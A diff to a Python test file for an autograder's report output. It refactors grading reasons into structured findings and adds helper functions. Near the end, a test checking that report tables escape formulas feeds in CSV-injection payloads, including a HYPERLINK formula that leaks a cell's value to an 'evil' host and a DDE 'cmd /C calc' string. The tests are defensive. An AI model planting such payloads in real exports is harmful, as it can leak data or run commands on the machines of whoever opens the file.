@@ -6,6 +6,7 @@ import csv
 import re
 import xml.etree.ElementTree as ElementTree
 from collections import Counter
+from collections.abc import Mapping, Sequence
 from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any
@@ -23,6 +24,7 @@ from autograder.gradebook.writer import GradebookWriter
 from autograder.misconceptions.catalogue import load
 from autograder.report.write import write_report
 from autograder.result import CellMark, NotebookResult, Remark, Result, Verdict
+from autograder.sentences.catalogue import Finding, finding
 
 # nbgrader's own models warn about themselves.
 pytestmark = pytest.mark.filterwarnings("ignore:Object of type")
@@ -55,11 +57,10 @@ class Marker:
         self,
         student: str,
         scores: dict[str, float],
-        reasons: dict[str, str] | None = None,
+        reasons: Mapping[str, str | Sequence[Finding]] | None = None,
         remarks: tuple[Remark, ...] = (),
         answers: dict[str, str] | None = None,
         walls: str = "bubblewrap",
-        words: dict[str, str] | None = None,
     ) -> None:
         folder = small.submit(self.course, student, self.assignment)
         notebook = small.source_notebook(self.points)
@@ -67,16 +68,13 @@ class Marker:
             if cell.id.endswith("-answer"):
                 name = cell.id.removesuffix("-answer")
                 cell.source = (answers or {}).get(name, f"def {name}(x):\n    return 4 * x")
-            elif cell.id.endswith("-grade"):
-                name = cell.id.removesuffix("-grade")
-                cell.metadata["autograder"] = {"authors_words": (words or {}).get(name, "")}
         marks = tuple(
             CellMark(
                 f"{name}-grade",
                 worth,
                 scores[name],
                 verdict(scores[name], worth),
-                (reasons or {}).get(name, ""),
+                found((reasons or {}).get(name, ())),
             )
             for name, worth in self.points.items()
         )
@@ -86,6 +84,21 @@ class Marker:
         with GradebookWriter(Folders.of(self.course)) as writer:
             writer.prepare(self.assignment, "1")
             writer.write(result, folder, "test")
+
+
+def found(what: str | Sequence[Finding]) -> tuple[Finding, ...]:
+    """Findings; a text stands for the one in which a test says it."""
+    return (finding("examiner.test-says", text=what),) if isinstance(what, str) else tuple(what)
+
+
+def remark(kind: str, text: str, grade_id: str | None = None) -> Remark:
+    return Remark(kind, finding("earlier.reason", text=text), grade_id)
+
+
+def wrong_numbers(exercise: str, name: str, count: int, hint: Finding) -> list[Finding]:
+    """What `check` finds where numbers are those of a slip."""
+    numbers = finding("check.wrong-numbers", name=name, count=count, size=200, largest="0.5")
+    return [finding("check.wrong", exercise=exercise, problem=numbers), finding("check.hint", hint=hint)]
 
 
 def verdict(score: float, worth: float) -> Verdict:
@@ -105,14 +118,13 @@ def rows(path: Path) -> list[dict[str, str]]:
 def marked_class(course: Path) -> Marker:
     """Six students, all the things that a report talks about."""
     marker = Marker(course)
-    hint = f"{CELL}: yt_pred has the right shape, but 50 of its 200 numbers are wrong. Hint: {SLIP.hint}"
-    elsewhere = f"If {CELL} does not pass its own check yet, look there first."
-    called = f"{SEQUENCE}: a is wrong. Hint: {elsewhere} {SLIP.hint}"
+    slip = finding("slip", slip=SLIP.name, hint=SLIP.hint)
+    called = wrong_numbers(SEQUENCE, "a", 50, finding("check.elsewhere", exercise=CELL, hint=slip))
     marker.mark("ada", {CELL: 10, SEQUENCE: 10})
     marker.mark(
-        "bob", {CELL: 0, SEQUENCE: 0}, {CELL: hint, SEQUENCE: called}, words={CELL: hint, SEQUENCE: called}
+        "bob", {CELL: 0, SEQUENCE: 0}, {CELL: wrong_numbers(CELL, "yt_pred", 50, slip), SEQUENCE: called}
     )
-    marker.mark("cem", {CELL: 0, SEQUENCE: 10}, {CELL: hint.replace("50", "60")}, words={CELL: hint})
+    marker.mark("cem", {CELL: 0, SEQUENCE: 10}, {CELL: wrong_numbers(CELL, "yt_pred", 60, slip)})
     marker.mark(
         "dee", {CELL: 10, SEQUENCE: 0},
         {SEQUENCE: f"{SEQUENCE}: the function is not written yet (write the body of this function here)"},
@@ -123,7 +135,7 @@ def marked_class(course: Path) -> Marker:
     )
     marker.mark(
         "fay", {CELL: 0, SEQUENCE: 0},
-        remarks=(Remark("broken-notebook", f"{ASSIGNMENT}.ipynb is truncated; it gets no marks."),),
+        remarks=(remark("broken-notebook", f"{ASSIGNMENT}.ipynb is truncated; it gets no marks."),),
     )  # fmt: skip
     return marker
 
@@ -208,10 +220,10 @@ def test_what_needs_a_look(course: Path) -> None:
     marker.mark(
         "gil", {CELL: 0, SEQUENCE: 0}, walls="none",
         remarks=(
-            Remark("timeout", "The code did not finish within 15 seconds.", f"{CELL}-grade"),
-            Remark("timeout", "The code did not finish within 15 seconds.", f"{SEQUENCE}-grade"),
-            Remark("channel", "The code tampered with its connection to the examiner."),
-            Remark("brand-new-kind", "Something else."),
+            remark("timeout", "The code did not finish within 15 seconds.", f"{CELL}-grade"),
+            remark("timeout", "The code did not finish within 15 seconds.", f"{SEQUENCE}-grade"),
+            remark("channel", "The code tampered with its connection to the examiner."),
+            remark("brand-new-kind", "Something else."),
         ),
     )  # fmt: skip
     small.submit(course, "hal", ASSIGNMENT)
@@ -238,7 +250,7 @@ def test_small_classes(course: Path, size: int) -> None:
 
 def test_a_class_in_which_nothing_could_be_read(course: Path) -> None:
     marker = Marker(course)
-    marker.mark("ada", {CELL: 0, SEQUENCE: 0}, remarks=(Remark("missing-notebook", "It is missing."),))
+    marker.mark("ada", {CELL: 0, SEQUENCE: 0}, remarks=(remark("missing-notebook", "It is missing."),))
     folder = report(course)
     assert [row["difficulty"] for row in rows(folder / "exercises.csv")] == ["", ""]
     assert not list(folder.glob("figures/*"))
@@ -283,9 +295,12 @@ def test_marks_of_stock_nbgrader_are_reported_too(course: Path) -> None:
         "", "[" * 100_000, "[]", '{"cells": 7}', '{"cells": [7, {}, {"metadata": []}]}',
         '{"cells": [{"metadata": {"nbgrader": {"grade": true, "grade_id": 3}, "autograder": [1]}}]}',
         '{"cells": [{"metadata": {"nbgrader": {"grade": 1}, "autograder": {"reason": ["b"]}}, "source": 1}]}',
+        '{"cells": [{"metadata": {"nbgrader": {"grade": 1}, "autograder": {"findings": [{"id": "slip"}]}}}]}',
         '{"cells": [{"cell_type": "code", "metadata": {"nbgrader": 5}, "source": [1, "\\ud800"]}]}',
     ],
-    ids=["empty", "deep", "list", "no-cells", "odd-cells", "odd-note", "odd-reason", "odd-source"],
+    ids=[
+        "empty", "deep", "list", "no-cells", "odd-cells", "odd-note", "odd-reason", "odd-finding", "odd-source"
+    ],
 )  # fmt: skip
 def test_a_strange_notebook_in_autograded_does_no_harm(course: Path, notebook: str) -> None:
     """What stock nbgrader leaves there is the student's own file."""
@@ -503,7 +518,7 @@ def test_no_cell_of_a_table_is_a_formula(course: Path) -> None:
     marker = Marker(course)
     formula = '=HYPERLINK("http://evil"&A1,"x")'
     marker.mark("=1+1", {CELL: 0, SEQUENCE: 0}, {CELL: formula, SEQUENCE: "fine, but;=2+2"})
-    marker.mark("@SUM(A1)", {CELL: 10, SEQUENCE: 0}, remarks=(Remark("died", "+cmd|' /C calc'!A0"),))
+    marker.mark("@SUM(A1)", {CELL: 10, SEQUENCE: 0}, remarks=(remark("died", "+cmd|' /C calc'!A0"),))
     marker.mark("-2+3", {CELL: 0, SEQUENCE: 10}, {CELL: "\t=1"})
     folder = report(course)
     cells = []
